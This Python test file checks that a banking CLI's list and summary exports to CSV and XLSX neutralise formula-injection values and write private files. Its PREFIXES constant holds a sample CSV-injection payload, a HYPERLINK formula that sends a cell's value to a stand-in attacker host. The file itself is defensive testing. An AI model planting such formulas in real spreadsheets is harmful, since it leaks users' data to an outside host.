"""Every command that writes a table, over a bank whose customer ids are formula
attacks (``=HYPERLINK(...)&C00000001``, ``+C...``, ``-C...``, ``@C...``, Cyrillic).

The commands: export, leads, actions, survey-due, lookalike, entitlements --events,
win-back, migrations, kpis (tables), and glossary (a document). Each writes CSV in
every dialect and XLSX; the CSV and XLSX are compared cell by cell with the Parquet
export of the same list, which keeps values exactly. ``-o`` is the path as typed,
relative to the current folder.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import stat
from decimal import Decimal
from pathlib import Path

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from openpyxl.utils.escape import unescape
from typer.testing import CliRunner

from clientlens.demo.generator import generate_bank
from clientlens.faces.cli import app
from clientlens.platform import exports
from clientlens.services.workspace import jobs

PREFIXES = ('=HYPERLINK("http://evil.example/?"&A1,"click")&', "+", "-", "@", "=1+",
            "Иванова-")
FORMULA_FIRST = set("=+-@\t\r")
AS_OF = "2026-10-31"


def hostile(customer_id: str) -> str:
    n = int("".join(c for c in customer_id if c.isdigit()) or 0)
    return PREFIXES[n % len(PREFIXES)] + customer_id


@pytest.fixture(scope="module")
def bank(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, set[str]]:
    """A small demo bank, its customer ids (and every reference to them) made hostile,
    imported and run on two dates."""
    tmp = tmp_path_factory.mktemp("hostile")
    files = generate_bank(tmp / "data", customers=300, seed=5)
    ids: set[str] = set()
    for paths in files.values():
        for path in paths:
            table = pq.read_table(path)
            for i, name in enumerate(table.column_names):
                if name.endswith("customer_id"):
                    values = [None if v is None else hostile(v)
                              for v in table.column(i).to_pylist()]
                    ids.update(v for v in values if v)
                    table = table.set_column(i, name, pa.array(values, pa.string()))
            pq.write_table(table, path)
    root = tmp / "ws"
    jobs.init(root)
    jobs.import_files(root, [tmp / "data"])
    jobs.run(root, dt.date(2026, 9, 30))
    jobs.run(root, dt.date(2026, 10, 31))
    return root, ids


COMMANDS = {
    "export": ["export", "{out}", "--as-of", AS_OF],
    "leads": ["leads", "-o", "{out}"],
    "actions": ["actions", "-o", "{out}"],
    "survey-due": ["survey-due", "-o", "{out}"],
    "lookalike": ["lookalike", "salary_card", "--min-holders", "5", "--min-lift", "1",
                  "-o", "{out}"],
    "entitlements": ["entitlements", "--events", "-o", "{out}"],
    "win-back": ["win-back", "-o", "{out}"],
}
SUMMARIES = {  # no Parquet: compared with their own CSV
    "migrations": ["migrations", "-o", "{out}"],
    "kpis": ["kpis", "-o", "{out}"],
}


def invoke(root: Path, args: list[str], out: str, *extra: str) -> None:
    argv = [a.replace("{out}", out) for a in args] + ["-w", str(root), *extra]
    result = CliRunner().invoke(app, argv, catch_exceptions=False)
    assert result.exit_code == 0, result.output


def expected_csv_cell(v: object, decimal_comma: bool) -> str:
    """How a value must read in CSV: our oracle, written from the docs."""
    if v is None:
        return ""
    if isinstance(v, bool):
        return "true" if v else "false"
    if isinstance(v, str):
        return "'" + v if exports.starts_formula(v) else v
    if isinstance(v, dt.datetime):
        return v.isoformat(sep=" ", timespec="seconds" if not v.microsecond else "auto")
    if isinstance(v, dt.date):
        return v.isoformat()
    text = str(v) if isinstance(v, int | Decimal) else None
    if text is not None:
        return text.replace(".", ",") if decimal_comma else text
    raise AssertionError(f"compare {v!r} numerically")


def check_csv_against(rows: list[list[str]], reference: pa.Table, decimal_comma: bool
                      ) -> None:
    assert rows[0] == reference.column_names
    assert len(rows) - 1 == reference.num_rows
    for r, (row, want) in enumerate(zip(rows[1:], reference.to_pylist(), strict=True)):
        for name, cell in zip(reference.column_names, row, strict=True):
            v = want[name]
            if isinstance(v, float):
                assert float(cell.replace(",", ".") if decimal_comma else cell) == v
            else:
                assert cell == expected_csv_cell(v, decimal_comma), (r, name, cell, v)


def check_xlsx_against(path: Path, reference: pa.Table) -> None:
    sheet = openpyxl.load_workbook(path).active
    cells = list(sheet.iter_rows())
    assert [c.value for c in cells[0]] == reference.column_names
    assert len(cells) - 1 == reference.num_rows
    for row, want in zip(cells[1:], reference.to_pylist(), strict=True):
        for name, cell in zip(reference.column_names, row, strict=True):
            v = want[name]
            assert cell.data_type != "f"
            if v is None:
                assert cell.value is None
            elif isinstance(v, str):
                assert unescape(cell.value) == v and cell.data_type == "s"
                assert bool(cell.quotePrefix) == exports.starts_formula(v)
            elif isinstance(v, bool):
                assert cell.value is v
            elif isinstance(v, float):
                # XlsxWriter writes 16 significant digits (Excel shows 15)
                assert cell.data_type == "n" and math.isclose(cell.value, v, rel_tol=1e-15)
            elif isinstance(v, int | Decimal):
                assert cell.data_type == "n" and Decimal(str(cell.value)) == v
                if isinstance(v, Decimal):  # money as #,##0.00, other decimals by scale
                    scale = reference.schema.field(name).type.scale
                    assert cell.number_format == "#,##0" + ("." + "0" * scale if scale
                                                            else "")
            elif isinstance(v, dt.datetime):
                assert cell.is_date and cell.value == v
            elif isinstance(v, dt.date):
                assert cell.is_date and cell.value == dt.datetime(v.year, v.month, v.day)


def read(path: Path, dialect: str) -> list[list[str]]:
    d = exports.CSV_DIALECTS[dialect]
    return list(csv.reader(io.StringIO(path.read_bytes().decode(d.encoding), newline=""),
                           delimiter=d.delimiter))


@pytest.mark.parametrize("command", list(COMMANDS))
def test_every_list_export_is_neutralised_typed_and_private(
        bank: tuple[Path, set[str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        command: str) -> None:
    root, ids = bank
    monkeypatch.chdir(tmp_path)
    args = COMMANDS[command]
    invoke(root, args, "lists/ref.parquet")  # a missing folder is created
    reference = pq.read_table(tmp_path / "lists" / "ref.parquet")
    assert reference.num_rows > 0, command
    written_ids = set(reference.column("customer_id").to_pylist())
    assert written_ids <= ids and {i[:1] for i in written_ids} & {"=", "+", "-", "@"}
    for dialect in ("standard", "excel-ru", "excel-1251"):
        invoke(root, args, f"{dialect}.csv", "--csv-dialect", dialect)
        rows = read(tmp_path / f"{dialect}.csv", dialect)
        check_csv_against(rows, reference, exports.CSV_DIALECTS[dialect].decimal_comma)
    assert read(tmp_path / "excel-ru.csv", "excel-ru") == \
        read(tmp_path / "excel-1251.csv", "excel-1251")
    invoke(root, args, "list.xlsx")
    check_xlsx_against(tmp_path / "list.xlsx", reference)
    for path in tmp_path.rglob("*"):
        assert stat.S_IMODE(path.stat().st_mode) in (0o600, 0o700), path
    assert not list(tmp_path.rglob("*.partial"))


@pytest.mark.parametrize("command", list(SUMMARIES))
def test_summaries_in_every_dialect_and_xlsx(bank: tuple[Path, set[str]], tmp_path: Path,
                                             monkeypatch: pytest.MonkeyPatch, command: str
                                             ) -> None:
    root, _ = bank
    monkeypatch.chdir(tmp_path)
    args = SUMMARIES[command]
    invoke(root, args, "std.csv")
    invoke(root, args, "ru.csv", "--csv-dialect", "excel-ru")
    invoke(root, args, "out.xlsx")
    std, ru = read(tmp_path / "std.csv", "standard"), read(tmp_path / "ru.csv", "excel-ru")
    assert len(std) > 2 and len(std) == len(ru)
    book = [list(row) for row in openpyxl.load_workbook(tmp_path / "out.xlsx").active
            .iter_rows()]
    assert len(book) == len(std)
    for s_row, r_row, x_row in zip(std, ru, book, strict=True):
        for s, r, x in zip(s_row, r_row, x_row, strict=True):
            assert x.data_type != "f"
            if s and x.data_type == "n":  # a number in all three
                assert float(s) == float(r.replace(",", "."))
                assert math.isclose(float(s), x.value, rel_tol=1e-15)  # 16 digits in XLSX
            else:
                assert s == r
                assert (x.value or "") == (s[1:] if s.startswith("'") else s)
    # also from the workspace setting, without the option
    settings = root / "clientlens.yaml"
    before = settings.read_text(encoding="utf-8")
    settings.write_text(before + "export_csv_dialect: excel-ru\n", encoding="utf-8")
    try:
        invoke(root, args, "by-setting.csv")
    finally:
        settings.write_text(before, encoding="utf-8")
    assert (tmp_path / "by-setting.csv").read_bytes() == (tmp_path / "ru.csv").read_bytes()


def test_glossary_writes_into_a_missing_folder_or_says_why_not(
        bank: tuple[Path, set[str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root, _ = bank
    monkeypatch.chdir(tmp_path)
    invoke(root, ["glossary", "-f", "html", "-o", "{out}"], "docs/new/dictionary.html")
    page = tmp_path / "docs" / "new" / "dictionary.html"
    assert page.read_text(encoding="utf-8").lstrip().startswith("<")
    assert stat.S_IMODE(page.stat().st_mode) == 0o600
    (tmp_path / "taken").write_text("a file\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["glossary", "-w", str(root), "-o", "taken/d.md"])
    assert result.exit_code != 0 and "taken is a file" in str(result.exception)


def test_demo_profiles_stay_in_the_workspace(tmp_path: Path, monkeypatch) -> None:
    """``demo`` keeps writing its profiles into the workspace's exports/."""
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(app, ["demo", "bank", "--customers", "200"],
                                catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert (tmp_path / "bank" / "exports" / "profiles.csv").is_file()
    assert pq.read_table(tmp_path / "bank" / "exports" / "profiles.parquet").num_rows > 0
    assert not (tmp_path / "profiles.csv").exists()
